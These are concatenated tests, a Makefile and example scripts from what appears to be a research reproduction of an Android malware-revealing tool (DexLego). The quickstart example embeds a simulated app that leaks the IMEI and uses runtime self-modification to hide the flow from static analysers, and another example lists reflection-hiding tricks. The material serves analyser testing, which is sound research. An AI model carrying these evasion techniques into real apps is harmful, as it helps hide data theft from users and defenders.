        out.append(state & 0xFF)
    return bytes(out)


class TestDigest:
    def test_deterministic(self):
        data = _blob()
        assert fuzzy_digest(data) == fuzzy_digest(data)

    def test_shape(self):
        digest = fuzzy_digest(_blob())
        assert isinstance(digest, str)
        assert len(digest) == 70
        int(digest, 16)  # pure hex

    def test_short_input_has_no_digest(self):
        assert fuzzy_digest(b"") is None
        assert fuzzy_digest(b"x" * (MIN_FUZZY_LEN - 1)) is None

    def test_uniform_input_has_no_digest(self):
        # All-identical windows leave the bucket quartiles degenerate;
        # a digest of that would match everything.
        assert fuzzy_digest(b"\x00" * 400) is None

    def test_different_content_different_digest(self):
        assert fuzzy_digest(_blob(seed=1)) != fuzzy_digest(_blob(seed=2))


class TestDistance:
    def test_self_distance_zero(self):
        digest = fuzzy_digest(_blob())
        assert fuzzy_distance(digest, digest) == 0

    def test_symmetry(self):
        a = fuzzy_digest(_blob(seed=1))
        b = fuzzy_digest(_blob(seed=2))
        assert fuzzy_distance(a, b) == fuzzy_distance(b, a)

    def test_small_perturbation_closer_than_rewrite(self):
        base = _blob(seed=3, size=600)
        tweaked = bytearray(base)
        tweaked[10:14] = b"\x01\x02\x03\x04"  # a few bytes changed
        rewritten = _blob(seed=9, size=600)   # unrelated content
        d_base = fuzzy_digest(base)
        near = fuzzy_distance(d_base, fuzzy_digest(bytes(tweaked)))
        far = fuzzy_distance(d_base, fuzzy_digest(rewritten))
        assert near < far

    def test_rejects_malformed_digests(self):
        good = fuzzy_digest(_blob())
        with pytest.raises(ValueError):
            fuzzy_distance(good, "abc")
        with pytest.raises(ValueError):
            fuzzy_distance("", good)
