"""Persistence, sharding and query behaviour of the CorpusIndex."""

import json
import os

import pytest

from repro.index.corpus import (
    INDEX_FORMAT_VERSION,
    CorpusIndex,
    IndexEntry,
)
from repro.index.fuzzy import fuzzy_digest


def _entry(app_id="app-a", method="step0", exact="aa", norm="nn",
           fuzzy=None, kind="method", class_desc="Lshared/Lib0;"):
    sig = f"{class_desc}->{method}()V" if method else None
    return IndexEntry(
        kind=kind,
        app_id=app_id,
        class_desc=class_desc,
        method=sig,
        exact=exact,
        norm=norm,
        fuzzy=fuzzy,
        artifact=None,
    )


def _blob(seed: int, size: int = 400) -> bytes:
    out = bytearray()
    state = seed
    for _ in range(size):
        state = (state * 1103515245 + 12345) & 0x7FFFFFFF
        out.append(state & 0xFF)
    return bytes(out)


class TestPersistence:
    def test_round_trip(self, tmp_path):
        root = str(tmp_path / "index")
        index = CorpusIndex(root)
        index.add_entry(_entry(app_id="app-a", exact="e1", norm="n1"))
        index.add_entry(_entry(app_id="app-b", method="step1",
                               exact="e2", norm="n1"))
        index.close()

        reopened = CorpusIndex(root, create=False)
        assert len(reopened.entries()) == 2
        assert [e.app_id for e in reopened.lookup_exact("e1")] == ["app-a"]
        assert reopened.apps_with_norm("n1") == ["app-a", "app-b"]
        sightings = reopened.lookup_signature("Lshared/Lib0;->step0()V")
        assert [e.app_id for e in sightings] == ["app-a"]

    def test_duplicate_entries_collapse(self, tmp_path):
        index = CorpusIndex(str(tmp_path / "index"))
        assert index.add_entry(_entry()) is True
        assert index.add_entry(_entry()) is False
        assert len(index.entries()) == 1

    def test_missing_index_without_create_raises(self, tmp_path):
        with pytest.raises(FileNotFoundError):
            CorpusIndex(str(tmp_path / "nowhere"), create=False)

    def test_foreign_format_version_is_refused(self, tmp_path):
        root = tmp_path / "index"
        root.mkdir()
        (root / "index_meta.json").write_text(
            json.dumps({"version": INDEX_FORMAT_VERSION + 1}))
        with pytest.raises(ValueError, match="format version"):
            CorpusIndex(str(root))

    def test_unreadable_meta_is_refused(self, tmp_path):
        root = tmp_path / "index"
        root.mkdir()
        (root / "index_meta.json").write_text("{not json")
        with pytest.raises(ValueError, match="unreadable"):
            CorpusIndex(str(root))


class TestSegments:
    def test_corrupt_lines_are_skipped_and_counted(self, tmp_path):
        root = str(tmp_path / "index")
        index = CorpusIndex(root)
        index.add_entry(_entry())
        index.close()

        seg_dir = os.path.join(root, "segments")
        segments = os.listdir(seg_dir)
        assert len(segments) == 1
        with open(os.path.join(seg_dir, segments[0]), "a") as fh:
            fh.write("{truncated json...\n")
            fh.write(json.dumps({"v": 999, "kind": "method"}) + "\n")
            fh.write(json.dumps(["not", "a", "dict"]) + "\n")

        reopened = CorpusIndex(root)
        assert len(reopened.entries()) == 1
        assert reopened.stats()["corrupt_lines"] == 3

    def test_concurrent_writers_use_separate_segments(self, tmp_path):
        root = str(tmp_path / "index")
        one = CorpusIndex(root)
        two = CorpusIndex(root)
        one.add_entry(_entry(app_id="app-a", exact="e1"))
        two.add_entry(_entry(app_id="app-b", exact="e2"))
        one.close()
        two.close()

        assert CorpusIndex(root).stats()["segments"] == 2
        merged = CorpusIndex(root)
        assert {e.app_id for e in merged.entries()} == {"app-a", "app-b"}

    def test_compact_folds_segments(self, tmp_path):
        root = str(tmp_path / "index")
        for i in range(3):
            writer = CorpusIndex(root)
            writer.add_entry(_entry(app_id=f"app-{i}", exact=f"e{i}"))
            writer.close()

        index = CorpusIndex(root)
        assert index.stats()["segments"] == 3
        assert index.compact() == 3
        assert index.stats()["segments"] == 1

        reopened = CorpusIndex(root)
        assert {e.app_id for e in reopened.entries()} == \
            {"app-0", "app-1", "app-2"}


class TestBodyStore:
    def test_round_trip(self, tmp_path):
        root = str(tmp_path / "index")
        ops = [["const", 0, 7], ["ret_void"]]
        writer = CorpusIndex(root)
        writer.put_body("d" * 64, ops)
        writer.close()
        assert CorpusIndex(root).get_body("d" * 64) == ops

    def test_missing_body_is_none(self, tmp_path):
        assert CorpusIndex(str(tmp_path / "index")).get_body("e" * 64) is None

    def test_corrupt_body_is_none(self, tmp_path):
        root = str(tmp_path / "index")
        index = CorpusIndex(root)
        with open(os.path.join(root, "bodies", "f" * 64 + ".json"),
                  "w") as fh:
            fh.write("{half a body")
        assert index.get_body("f" * 64) is None

    def test_foreign_body_version_is_none(self, tmp_path):
        root = str(tmp_path / "index")
        index = CorpusIndex(root)
        with open(os.path.join(root, "bodies", "a" * 64 + ".json"),
                  "w") as fh:
            json.dump({"version": "v999", "ops": []}, fh)
        assert index.get_body("a" * 64) is None


class TestQueries:
    def test_nearest_sorts_by_distance(self, tmp_path):
        index = CorpusIndex(str(tmp_path / "index"))
        base = _blob(seed=3, size=600)
        tweaked = bytearray(base)
        tweaked[10:14] = b"\x01\x02\x03\x04"
        probe = fuzzy_digest(base)
        near = fuzzy_digest(bytes(tweaked))
        far = fuzzy_digest(_blob(seed=9, size=600))
        index.add_entry(_entry(app_id="far", exact="e-far", fuzzy=far))
        index.add_entry(_entry(app_id="near", exact="e-near", fuzzy=near))

        hits = index.nearest(probe, limit=5)
        assert [entry.app_id for _, entry in hits] == ["near", "far"]
        assert hits[0][0] < hits[1][0]

    def test_nearest_respects_kind_and_limit(self, tmp_path):
        index = CorpusIndex(str(tmp_path / "index"))
        digest = fuzzy_digest(_blob(seed=5))
        index.add_entry(_entry(app_id="m", exact="e1", fuzzy=digest))
        index.add_entry(_entry(app_id="c", kind="class", method=None,
                               exact=None, norm=None, fuzzy=digest))
        only_classes = index.nearest(digest, kind="class")
        assert [e.kind for _, e in only_classes] == ["class"]
        assert len(index.nearest(digest, limit=1)) == 1

    def test_attached_lsh_keeps_the_result_shape(self, tmp_path):
        # Satellite contract: routing nearest() through an attached
        # LshIndex changes the scan cost, never the results or their
        # (distance, entry) shape; exhaustive=True stays the oracle.
        index = CorpusIndex(str(tmp_path / "index"))
        base = _blob(seed=3, size=600)
        tweaked = bytearray(base)
        tweaked[10:14] = b"\x01\x02\x03\x04"
        probe = fuzzy_digest(base)
        index.add_entry(_entry(app_id="far", exact="e-far",
                               fuzzy=fuzzy_digest(_blob(seed=9, size=600))))
        index.add_entry(_entry(app_id="near", exact="e-near",
                               fuzzy=fuzzy_digest(bytes(tweaked))))
        linear = index.nearest(probe, limit=5)

        index.attach_lsh()
        assert index.nearest(probe, limit=5) == linear
        assert index.nearest(probe, limit=5, exhaustive=True) == linear

    def test_attached_lsh_sees_later_entries(self, tmp_path):
        index = CorpusIndex(str(tmp_path / "index"))
        index.attach_lsh()
        digest = fuzzy_digest(_blob(seed=5))
        index.add_entry(_entry(app_id="late", exact="e1", fuzzy=digest))
        hits = index.nearest(digest, limit=1)
        assert [entry.app_id for _, entry in hits] == ["late"]
        assert hits[0][0] == 0

    def test_attached_lsh_respects_kind(self, tmp_path):
        index = CorpusIndex(str(tmp_path / "index"))
        digest = fuzzy_digest(_blob(seed=5))
        index.add_entry(_entry(app_id="m", exact="e1", fuzzy=digest))
        index.add_entry(_entry(app_id="c", kind="class", method=None,
                               exact=None, norm=None, fuzzy=digest))
        index.attach_lsh()
        only_classes = index.nearest(digest, kind="class")
        assert [e.kind for _, e in only_classes] == ["class"]

    def test_stats_shape(self, tmp_path):
        index = CorpusIndex(str(tmp_path / "index"))
        index.add_entry(_entry())
        index.add_entry(_entry(kind="class", method=None, exact=None,
                               norm=None))
        stats = index.stats()
        assert stats["version"] == INDEX_FORMAT_VERSION
        assert stats["methods"] == 1
        assert stats["classes"] == 1
        assert stats["apps"] == 1
        assert stats["corrupt_lines"] == 0
