"""Repo-level pytest configuration.

Puts ``src/`` on ``sys.path`` so the test-suite and benchmarks run even
when the package has not been pip-installed (this sandbox has no network,
and ``pip install -e .`` requires the ``wheel`` package; use
``python setup.py develop`` or rely on this shim).
"""

import os
import sys

_SRC = os.path.join(os.path.dirname(__file__), "src")
if _SRC not in sys.path:
    sys.path.insert(0, _SRC)
