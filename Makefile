# One-keystroke entry points for the tier-1 verify, the paper
# benchmarks, and a dependency-free lint floor. Everything runs from
# the repo root with src/ on the path — no install required.

PYTHON ?= python
PYTHONPATH_SRC = PYTHONPATH=src$(if $(PYTHONPATH),:$(PYTHONPATH))

.PHONY: test bench bench-batch lint all help

help:
	@echo "make test        - tier-1 verify: full pytest suite (-x -q)"
	@echo "make bench       - regenerate every paper table/figure (pytest-benchmark)"
	@echo "make bench-batch - batch-service throughput: serial vs parallel, cold vs warm cache"
	@echo "make lint        - byte-compile everything (syntax floor; uses pyflakes when present)"

test:
	$(PYTHONPATH_SRC) $(PYTHON) -m pytest -x -q

# bench_*.py does not match pytest's default collection pattern, so the
# bench targets widen it explicitly.
bench:
	$(PYTHONPATH_SRC) $(PYTHON) -m pytest benchmarks/ -o python_files='bench_*.py' --benchmark-only -s

bench-batch:
	$(PYTHONPATH_SRC) $(PYTHON) -m pytest benchmarks/bench_batch_throughput.py --benchmark-only -s

lint:
	$(PYTHON) -m compileall -q src tests benchmarks examples
	@if $(PYTHON) -c "import pyflakes" 2>/dev/null; then \
		$(PYTHON) -m pyflakes src tests benchmarks examples; \
	else \
		echo "pyflakes not installed; compileall-only lint passed"; \
	fi

all: lint test
