# One-keystroke entry points for the tier-1 verify, the paper
# benchmarks, and a dependency-free lint floor. Everything runs from
# the repo root with src/ on the path — no install required.

PYTHON ?= python
PYTHONPATH_SRC = PYTHONPATH=src$(if $(PYTHONPATH),:$(PYTHONPATH))
# bench-smoke writes fresh timings to BENCH_TIMINGS (gitignored);
# bench-check gates them against the committed BENCH_BASELINE.  The
# default deliberately differs from the baseline path so a casual
# `make bench-smoke` can never clobber the committed baseline —
# refresh it explicitly with `make bench-smoke BENCH_TIMINGS=bench-smoke-timings.json`.
BENCH_TIMINGS ?= bench-smoke-current.json
BENCH_BASELINE ?= bench-smoke-timings.json
SERVE_SMOKE_STORE ?= .serve-smoke

.PHONY: test test-determinism test-chaos bench bench-batch bench-force \
        bench-interp bench-index bench-cluster bench-smoke bench-check \
        serve-smoke gateway-smoke profile lint ci all help

help:
	@echo "make test        - tier-1 verify: full pytest suite (-x -q)"
	@echo "make test-determinism - differential suite: serial/thread/process replay backends bit-identical"
	@echo "make test-chaos  - seeded fault schedules vs gateway + worker fleet: exactly-once, byte-identical artifacts"
	@echo "make bench       - regenerate every paper table/figure (pytest-benchmark)"
	@echo "make bench-batch - batch-service throughput: serial vs parallel, cold vs warm cache"
	@echo "make bench-force - force-execution exploration: serial vs parallel, fifo vs rarity-first"
	@echo "make bench-interp- interpreter fast path: steps/sec, cold/warm/invalidation-storm, +/- collector"
	@echo "make bench-index - corpus index: cold vs warm cross-app dedup on a ~80%-shared corpus"
	@echo "make bench-cluster - LSH nearest vs linear scan (>=10x @ recall >=0.95) + reveal-and-label throughput"
	@echo "make bench-smoke - every benchmark once in quick mode (--benchmark-disable); timing JSON to $(BENCH_TIMINGS)"
	@echo "make bench-check - gate $(BENCH_TIMINGS) against the committed $(BENCH_BASELINE) (>25% total regression fails)"
	@echo "make serve-smoke - boot the reveal server, submit two jobs, assert clean shutdown"
	@echo "make gateway-smoke - gateway + 2 fleet workers: HTTP submit, fetch artifact, diff vs in-process"
	@echo "make profile     - cProfile one reveal, print top-20 cumulative (tools/profile_reveal.py)"
	@echo "make lint        - byte-compile everything (syntax floor; uses pyflakes when present)"
	@echo "make ci          - exactly what the CI workflow runs: lint + test + test-determinism + test-chaos + bench-smoke + bench-check + serve-smoke + gateway-smoke"

test:
	$(PYTHONPATH_SRC) $(PYTHON) -m pytest -x -q

# The differential determinism suite on its own: every replay backend
# (serial / thread / process, 1..8 workers) must produce bit-identical
# exploration, collection and archives.  Part of `make test` too; this
# target exists so CI (and bisects) can run the contract in isolation
# with verbose per-case output.
test-determinism:
	$(PYTHONPATH_SRC) $(PYTHON) -m pytest tests/core/test_determinism.py \
		tests/core/test_replay_spec.py tests/runtime/test_predecode_warm.py -q

# The chaos suite on its own: deterministic seeded fault schedules
# (store I/O, network, worker kills) against a live gateway and a
# two-worker fleet; every schedule must complete every job exactly
# once with byte-identical artifacts.  Failing runs print the full
# schedule, seed included, so they can be replayed.  Part of
# `make test` too; this target exists for CI and for replaying one
# schedule in isolation.
test-chaos:
	$(PYTHONPATH_SRC) $(PYTHON) -m pytest tests/service/test_chaos.py -q

# bench_*.py does not match pytest's default collection pattern, so the
# bench targets widen it explicitly.
bench:
	$(PYTHONPATH_SRC) $(PYTHON) -m pytest benchmarks/ -o python_files='bench_*.py' --benchmark-only -s

bench-batch:
	$(PYTHONPATH_SRC) $(PYTHON) -m pytest benchmarks/bench_batch_throughput.py --benchmark-only -s

bench-force:
	$(PYTHONPATH_SRC) $(PYTHON) -m pytest benchmarks/bench_force_execution.py -o python_files='bench_*.py' --benchmark-only -s

bench-interp:
	$(PYTHONPATH_SRC) $(PYTHON) -m pytest benchmarks/bench_interpreter_dispatch.py -o python_files='bench_*.py' --benchmark-only -s

bench-index:
	$(PYTHONPATH_SRC) $(PYTHON) -m pytest benchmarks/bench_corpus_index.py -o python_files='bench_*.py' --benchmark-only -s

bench-cluster:
	$(PYTHONPATH_SRC) $(PYTHON) -m pytest benchmarks/bench_cluster.py -o python_files='bench_*.py' --benchmark-only -s

# Quick mode: every benchmark file collects and executes once, untimed,
# so a broken benchmark breaks the build; per-test timings land in
# $(BENCH_TIMINGS) (written by benchmarks/conftest.py).
bench-smoke:
	$(PYTHONPATH_SRC) BENCH_TIMINGS_JSON=$(BENCH_TIMINGS) DEXLEGO_BENCH_QUICK=1 $(PYTHON) -m pytest benchmarks/ -o python_files='bench_*.py' --benchmark-disable -q

# Perf gate: fail when the fresh bench-smoke timing JSON (written by
# `make bench-smoke` to $(BENCH_TIMINGS)) regressed the committed
# baseline's total duration by more than 25%.
bench-check:
	$(PYTHON) tools/check_bench_regression.py $(BENCH_BASELINE) $(BENCH_TIMINGS)

# Profile a single reveal (top-20 cumulative by default) so perf work
# starts from data; see tools/profile_reveal.py --help for knobs.
profile:
	$(PYTHONPATH_SRC) $(PYTHON) tools/profile_reveal.py

# End-to-end server smoke: journal two jobs into a fresh store, boot a
# server against it, drain, and assert both jobs reached `done` with a
# clean shutdown.  Mirrors the CI bench-smoke job's serve step.
serve-smoke:
	rm -rf $(SERVE_SMOKE_STORE)
	$(PYTHONPATH_SRC) $(PYTHON) -m repro.service submit --store $(SERVE_SMOKE_STORE) --corpus fdroid --limit 2
	$(PYTHONPATH_SRC) $(PYTHON) -m repro.service serve --store $(SERVE_SMOKE_STORE) --workers 2
	$(PYTHONPATH_SRC) $(PYTHON) -m repro.service status --store $(SERVE_SMOKE_STORE) --json | \
		$(PYTHON) -c "import json,sys; payload = json.load(sys.stdin); \
		assert payload['counts'] == {'done': 2}, payload['counts']; \
		print('serve-smoke: 2 job(s) done, clean shutdown')"
	rm -rf $(SERVE_SMOKE_STORE)

# End-to-end fleet smoke: boot the HTTP gateway on an ephemeral port,
# race two workers over its store, submit a two-app corpus over real
# HTTP, and assert every revealed APK (and its fetched artifact) is
# byte-identical to the in-process reveal of the same APK.
gateway-smoke:
	$(PYTHONPATH_SRC) $(PYTHON) tools/gateway_smoke.py

lint:
	$(PYTHON) -m compileall -q src tests benchmarks examples tools
	@if $(PYTHON) -c "import pyflakes" 2>/dev/null; then \
		$(PYTHON) -m pyflakes src tests benchmarks examples tools; \
	else \
		echo "pyflakes not installed; compileall-only lint passed"; \
	fi

# Mirrors .github/workflows/ci.yml: the test job runs lint + test +
# test-determinism + test-chaos, the bench-smoke job runs bench-smoke
# + bench-check + serve-smoke + gateway-smoke.
ci: lint test test-determinism test-chaos bench-smoke bench-check serve-smoke gateway-smoke

all: lint test
