"""Reveal server: a prioritized batch with live progress.

Submits a six-app corpus across the three priority lanes against a
single-worker server (so lane order is visible in the completion
order), streams every event — lifecycle transitions, pipeline stages,
cache hits — as it happens, cancels a queued job before it ever runs,
and prints the queue-latency picture at the end.

Run:  python examples/reveal_server.py
"""

from repro.dex import assemble
from repro.runtime import Apk
from repro.service import JobState, RevealJob, RevealServer

SMALI_TEMPLATE = """
.class public L{cls};
.super Landroid/app/Activity;
.field public total:I

.method public onCreate(Landroid/os/Bundle;)V
    .registers 6
    const/4 v0, 0
    const/4 v1, 0
    :loop
    const/16 v2, {rounds}
    if-ge v1, v2, :done
    mul-int v3, v1, v1
    add-int v0, v0, v3
    add-int/lit8 v1, v1, 1
    goto :loop
    :done
    iput v0, p0, L{cls};->total:I
    return-void
.end method
"""


def build_app(name: str, rounds: int) -> Apk:
    cls = f"ex/srv/{name.capitalize()}"
    smali = SMALI_TEMPLATE.format(cls=cls, rounds=rounds)
    return Apk(f"ex.srv.{name}", f"L{cls};", [assemble(smali)])


def main() -> None:
    corpus = [
        ("backfill-a", "low"),
        ("backfill-b", "low"),
        ("nightly-a", "normal"),
        ("nightly-b", "normal"),
        ("analyst-sample", "high"),
        ("doomed", "low"),  # cancelled before it ever runs
    ]

    print("== live event stream ==")
    # One worker: completions happen strictly in lane order, whatever
    # the submission order above says.
    server = RevealServer(
        workers=1,
        autostart=False,  # stage the whole queue first
        observers=[lambda e: print(f"  [{e.seq:>2}] {e.kind:<10} "
                                   f"{e.app_id}")],
    )
    handles = {
        name: server.submit(
            RevealJob(name, build_app(name, rounds=8 + i)),
            priority=lane,
        )
        for i, (name, lane) in enumerate(corpus)
    }

    server.cancel(handles["doomed"].job_id)
    server.start()
    outcomes = server.await_many()
    server.close()

    print("\n== completion order (lanes honoured) ==")
    finished = sorted(
        (h for h in handles.values() if h.state == JobState.DONE),
        key=lambda h: h.finished_at,
    )
    for handle in finished:
        print(f"  {handle.app_id:<16} priority={handle.priority} "
              f"wait={handle.queue_wait_s * 1000:6.1f}ms "
              f"run={handle.run_s * 1000:6.1f}ms")

    doomed = handles["doomed"]
    print(f"\n  {doomed.app_id}: state={doomed.state} "
          f"(pipeline never ran, outcome={doomed.outcome})")

    print(f"\n== {len(outcomes)} outcome(s) ==")
    for outcome in outcomes:
        print(f"  {outcome.app_id:<16} {outcome.status:<4} "
              f"queue_wait={outcome.queue_wait_s * 1000:6.1f}ms")

    assert [h.app_id for h in finished][0] == "analyst-sample"
    assert doomed.state == JobState.CANCELLED


if __name__ == "__main__":
    main()
