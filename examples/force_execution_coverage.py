"""Coverage scenario: fuzzing plateaus, force execution breaks through.

Generates an F-Droid-style app whose code is half-gated behind an intent
extra no fuzzer will guess, fuzzes it (Sapienz analogue), then runs the
iterative force-execution engine of §IV-E and prints the coverage table.

Run:  python examples/force_execution_coverage.py
"""

from repro.benchsuite import AppProfile, generate_app
from repro.core import ForceExecutionEngine
from repro.coverage import CoverageCollector, SapienzFuzzer


def main() -> None:
    app = generate_app(
        "org.example.gated", 9000, seed=42,
        profile=AppProfile(gated=0.50, dead=0.08, crash=0.05, handler=0.05),
    )
    print(f"generated app: {app.instruction_count} instructions, "
          f"{app.class_count} classes, {app.method_count} methods")
    print(f"  gated worker classes: {len(app.gated_methods)}")
    print(f"  dead worker classes:  {len(app.dead_methods)}")
    print(f"  crash-blocked:        {len(app.crash_methods)}")
    print(f"  handler-residue:      {len(app.handler_methods)}\n")

    collector = CoverageCollector()
    fuzz_report = SapienzFuzzer(population=10).drive(app.apk, [collector])
    sapienz = collector.report(app.apk.dex_files)
    print(f"after fuzzing ({fuzz_report.sequences_run} event sequences):")
    print(f"  {sapienz.as_row()}\n")

    engine = ForceExecutionEngine(
        app.apk, shared_listeners=[collector],
        max_iterations=6, max_paths_per_iteration=220,
    )
    force_report = engine.run()
    combined = collector.report(app.apk.dex_files)
    print(f"after force execution ({force_report.paths_executed} paths, "
          f"{force_report.iterations} iterations, "
          f"{force_report.runs} total runs):")
    print(f"  {combined.as_row()}\n")

    print("uncovered residue = dead classes (never referenced), the code "
          "behind the crashing native, and never-thrown exception handlers "
          "- the paper's three categories of missed instructions.")


if __name__ == "__main__":
    main()
