"""Reflection scenario: advanced reflective calls become direct calls.

Five ways malware hides a reflective target (paper §IV-D): runtime
concatenation, XOR-encrypted names, ``getMethods()`` indexing with no
string at all, char-array assembly, and a name computed in ``<clinit>``.
Static tools fail on every one of them; DexLego's runtime rewrite turns
each into a direct call through a generated bridge.

Run:  python examples/reflection_resolution.py
"""

from repro import DexLego, droidsafe, flowdroid, horndroid
from repro.benchsuite import sample_by_name

ADVANCED = ["ReflectAdv0", "ReflectAdv1", "ReflectAdv2",
            "ReflectAdv3", "ReflectAdv4"]


def main() -> None:
    tools = [flowdroid(), droidsafe(), horndroid()]
    print(f"{'sample':14s} {'technique':42s} "
          f"{'orig FD/DS/HD':>14s} {'revealed':>9s}")
    print("-" * 86)
    for name in ADVANCED:
        sample = sample_by_name(name)
        apk = sample.build_apk()
        original = "/".join(
            "Y" if t.analyze(apk).detected else "n" for t in tools
        )
        revealed = DexLego().reveal(apk).revealed_apk
        after = "/".join(
            "Y" if t.analyze(revealed).detected else "n" for t in tools
        )
        print(f"{name:14s} {sample.description[:42]:42s} "
              f"{original:>14s} {after:>9s}")

    # Show what the rewrite actually emits.
    sample = sample_by_name("ReflectAdv2")
    result = DexLego().reveal(sample.build_apk())
    dex = result.reassembled_dex
    from repro.core import INSTRUMENT_CLASS

    bridge_cls = dex.find_class(INSTRUMENT_CLASS)
    print(f"\ngenerated bridge methods on {INSTRUMENT_CLASS}:")
    for method in bridge_cls.all_methods():
        ref = dex.method_ref(method.method_idx)
        if ref.name.startswith("bridge"):
            print(f"  {ref.signature}")


if __name__ == "__main__":
    main()
