"""Quickstart: assemble an app, run DexLego, analyze before and after.

The app hides an IMEI -> SMS flow behind *runtime self-modification*
(the paper's Code 1): a native method rewrites the ``normal(...)`` call
site into ``sink(...)`` between loop iterations, so no static snapshot
ever shows source and sink together.

Run:  python examples/quickstart.py
"""

from repro import (
    AndroidRuntime,
    Apk,
    AppDriver,
    DexLego,
    assemble,
    flowdroid,
    register_native_library,
)
from repro.dex.instructions import Instruction

SMALI = """
.class public Lcom/quickstart/Main;
.super Landroid/app/Activity;

.method public onCreate(Landroid/os/Bundle;)V
    .registers 3
    invoke-virtual {p0}, Lcom/quickstart/Main;->leak()V
    return-void
.end method

.method public leak()V
    .registers 4
    invoke-virtual {p0}, Lcom/quickstart/Main;->readImei()Ljava/lang/String;
    move-result-object v0
    const/4 v1, 0
    :loop
    const/4 v2, 2
    if-ge v1, v2, :done
    invoke-virtual {p0, v0}, Lcom/quickstart/Main;->normal(Ljava/lang/String;)V
    invoke-virtual {p0, v1}, Lcom/quickstart/Main;->tamper(I)V
    add-int/lit8 v1, v1, 1
    goto :loop
    :done
    return-void
.end method

.method public readImei()Ljava/lang/String;
    .registers 3
    const-string v0, "phone"
    invoke-virtual {p0, v0}, Lcom/quickstart/Main;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/telephony/TelephonyManager;
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method

.method public normal(Ljava/lang/String;)V
    .registers 2
    return-void
.end method

.method public sink(Ljava/lang/String;)V
    .registers 3
    const-string v0, "EXFIL"
    invoke-static {v0, p1}, Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I
    return-void
.end method

.method public native tamper(I)V
.end method
"""


def tamper(ctx, this, i):
    """The JNI-analogue bytecode rewriter (paper Code 1)."""
    host = "Lcom/quickstart/Main;"
    leak = f"{host}->leak()V"
    old = "normal" if i == 0 else "sink"
    new = f"{host}->sink(Ljava/lang/String;)V" if i == 0 else (
        f"{host}->normal(Ljava/lang/String;)V"
    )
    pc = ctx.find_invoke_pc(leak, old)
    units = ctx.method_code_units(leak)
    call = Instruction.decode_at(units, pc)
    patched = Instruction.make(
        "invoke-virtual", ctx.method_pool_index(host, new), *call.invoke_registers
    ).encode()
    ctx.patch_code(leak, pc, patched)


def main() -> None:
    register_native_library(
        "libquickstart", {"Lcom/quickstart/Main;->tamper(I)V": tamper}
    )
    apk = Apk("com.quickstart", "Lcom/quickstart/Main;", [assemble(SMALI)],
              native_libraries=["libquickstart"])

    tool = flowdroid()
    print("=== 1. Static analysis on the original APK ===")
    flows = tool.analyze(apk).flows
    print(f"FlowDroid finds {len(flows)} flow(s)  <- the leak is invisible\n")

    print("=== 2. Execute: the leak is real ===")
    runtime = AndroidRuntime()
    AppDriver(runtime, apk).run_standard_session()
    for event in runtime.observed_leaks():
        print(f"runtime leak: {sorted(event.provenance)} -> "
              f"{event.sink_signature.split(';->')[1].split('(')[0]}")
    print()

    print("=== 3. DexLego: collect -> reassemble -> verify -> repack ===")
    result = DexLego().reveal(apk)
    print(f"collector stats: {result.collector_stats}")
    print("stage timings:  " + "  ".join(
        f"{stage}={seconds * 1000:.1f}ms"
        for stage, seconds in result.stage_timings.items()
    ) + "\n")
    print("reassembled leak() method:")
    dex = result.reassembled_dex
    cls = dex.find_class("Lcom/quickstart/Main;")
    from repro.dex.disassembler import disassemble_code

    leak = next(m for m in cls.all_methods()
                if dex.method_ref(m.method_idx).name == "leak")
    for line in disassemble_code(dex, leak.code):
        print("   ", line)
    print()

    print("=== 4. Static analysis on the revealed APK ===")
    flows = tool.analyze(result.revealed_apk).flows
    for flow in flows:
        print(f"FlowDroid now finds: {flow.brief()}")
    assert flows, "expected the hidden flow to be visible"


if __name__ == "__main__":
    main()
