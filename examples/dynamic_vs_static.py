"""Table IV scenario: where dynamic taint trackers fall short.

Runs TaintDroid (emulator-hosted) and TaintART (device-hosted) analogues
on the five tricky DroidBench samples, then DexLego + HornDroid on the
revealed APKs — reproducing the paper's Table IV row by row.

Run:  python examples/dynamic_vs_static.py
"""

from repro import DexLego, horndroid, taintart, taintdroid
from repro.benchsuite import TABLE_IV_SAMPLES, sample_by_name
from repro.runtime import EMULATOR, NEXUS_5X, AndroidRuntime, AppDriver

_TRUTH = {"Button1": 1, "Button3": 2, "EmulatorDetection1": 1,
          "ImplicitFlow1": 2, "PrivateDataLeak3": 2}


def run_tracker(sample, factory, device) -> int:
    tracker = factory()
    runtime = AndroidRuntime(device, max_steps=3_000_000)
    runtime.add_listener(tracker)
    AppDriver(runtime, sample.build_apk()).run_standard_session()
    return tracker.leak_count()


def main() -> None:
    tool = horndroid()
    print(f"{'sample':20s} {'leaks':>5s} {'TaintDroid':>10s} "
          f"{'TaintART':>8s} {'DexLego+HD':>10s}")
    print("-" * 60)
    for name in TABLE_IV_SAMPLES:
        sample = sample_by_name(name)
        td = run_tracker(sample, taintdroid, EMULATOR)
        ta = run_tracker(sample, taintart, NEXUS_5X)
        revealed = DexLego(device=sample.device).reveal(
            sample.build_apk()
        ).revealed_apk
        flows = tool.analyze(revealed).flows
        dl = len({(f.source_tag, f.sink_signature) for f in flows})
        print(f"{name:20s} {_TRUTH[name]:>5d} {td:>10d} {ta:>8d} {dl:>10d}")
    print("\nwhy each tool misses what it misses:")
    print("  Button1/3          widget storage launders runtime taint tags")
    print("  EmulatorDetection1 the sample behaves benignly on the emulator")
    print("  ImplicitFlow1      dynamic trackers don't follow control deps")
    print("  PrivateDataLeak3   the file round trip defeats everyone")


if __name__ == "__main__":
    main()
