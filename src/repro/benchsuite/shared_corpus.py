"""Shared-code corpus generator for cross-app dedup measurements.

Market corpora are dominated by library code: the same support/ads/
analytics classes ship inside thousands of applications.  The
:mod:`repro.index` corpus index exploits exactly that overlap, so its
benchmarks and acceptance tests need a corpus with a *controlled*
sharing profile — which :func:`generate_app`'s per-package namespacing
cannot give (every class it emits is unique to its app).

:func:`build_shared_corpus` builds ``app_count`` applications where:

* a pool of library classes (``Lshared/Lib<i>;``) is emitted
  bit-for-bit identically into every app — same descriptors, same
  method signatures, same bytecode (deterministic in the corpus seed),
  exercised by every launch;
* each app adds its own uniquely-namespaced worker classes and
  ``MainActivity``, so no two apps share DEX bytes — the whole-APK
  result cache misses across apps while the method-level corpus index
  hits on the library code.

With the defaults (8 shared library classes, 2 unique classes, 6 step
methods each) roughly 79% of each app's executed methods are shared
corpus-wide — above the ≥70% bar the dedup acceptance criteria are
stated against.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from repro.benchsuite.codegen import (
